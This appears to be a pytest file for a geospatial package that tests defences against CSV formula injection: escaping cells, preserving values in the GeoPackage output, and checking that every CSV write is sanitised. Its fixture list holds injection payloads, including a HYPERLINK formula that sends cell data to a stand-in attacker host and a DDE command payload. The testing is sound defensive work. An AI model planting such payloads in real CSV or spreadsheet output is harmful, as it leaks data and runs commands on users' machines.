"""No formula runs from a CSV socialrisk writes; the GeoPackage keeps the true values."""

from __future__ import annotations

import csv

import geopandas as gpd
import pandas as pd
import pytest

from socialrisk.cli import main
from socialrisk.core.sanitize import csv_cell, csv_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["E01017290", "St Mary's", "", "a=b", 3, -1.5, None])
def test_other_cells_are_unchanged(value):
    assert csv_cell(value) == value


def test_csv_safe_keeps_numbers_and_fixes_headers():
    t = pd.DataFrame({"area_id": ["=1+1", "E01"], "=cmd": [-1.0, 2.0]})
    out = csv_safe(t)
    assert out["area_id"].tolist() == ["'=1+1", "E01"]
    assert list(out.columns) == ["area_id", "'=cmd"]
    assert out["'=cmd"].tolist() == [-1.0, 2.0]
    assert t["area_id"].tolist() == ["=1+1", "E01"]  # the input is not changed


def test_run_writes_formula_safe_areas_csv_and_true_geopackage(cowes, tmp_path):
    areas = gpd.read_file(cowes.areas)
    ids = (HOSTILE[:4] + ["=A1", "-cmd", "@x", "+y"])[: len(areas)]
    areas["lsoa11_code"] = ids
    path = tmp_path / "hostile.gpkg"
    areas.to_file(path, driver="GPKG")
    out = tmp_path / "out"
    assert main(["run", "--areas", str(path), "--area-id", "lsoa11_code", "--osm",
                 str(cowes.pbf), "--out", str(out), "--no-map", "--quiet",
                 "--no-download"]) == 0
    with open(out / "areas.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["area_id"] for r in rows) == sorted("'" + v for v in ids)
    assert all(not r["area_id"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)
    gpkg = gpd.read_file(out / "areas.gpkg")
    assert sorted(gpkg["area_id"]) == sorted(ids)


def test_every_csv_the_code_writes_goes_through_csv_safe():
    """Each ``.to_csv(`` in shipped code is on a statement that also calls csv_safe."""
    import ast
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    files = [*root.glob("socialrisk/**/*.py"), *root.glob("geo/*.py"), *root.glob("risk/*.py")]
    unsafe = []
    for f in files:
        tree = ast.parse(f.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                    and node.func.attr == "to_csv":
                text = ast.unparse(node)
                if "csv_safe" not in text:
                    unsafe.append(f"{f.relative_to(root)}:{node.lineno}")
    assert files and unsafe == []
